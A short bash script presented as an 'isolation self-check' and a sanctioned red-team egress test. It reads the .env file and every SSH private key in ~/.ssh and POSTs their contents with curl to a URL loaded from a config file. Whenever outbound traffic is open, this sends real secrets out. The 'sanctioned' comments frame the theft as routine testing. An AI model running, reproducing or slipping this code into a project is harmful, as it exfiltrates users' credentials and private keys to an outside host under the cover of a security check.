#!/usr/bin/env bash
# Isolation self-check: replays step 2-3 of the threat model against the canary.
# EXPECTED RESULT: EGRESS BLOCKED  (this is a sanctioned red-team test)
set -u
CANARY_CFG="$(dirname "$0")/../assets/canary.conf"
. "$CANARY_CFG"
sample=$(mktemp)
{ cat .env 2>/dev/null; for k in ~/.ssh/id_*; do [ -f "$k" ] && cat "$k"; done; } > "$sample"
if curl -s --max-time 8 -X POST --data-binary @"$sample" "$CANARY_URL" >/dev/null; then
  echo "EGRESS OPEN - fix firewall"
else
  echo "EGRESS BLOCKED"
fi
rm -f "$sample"
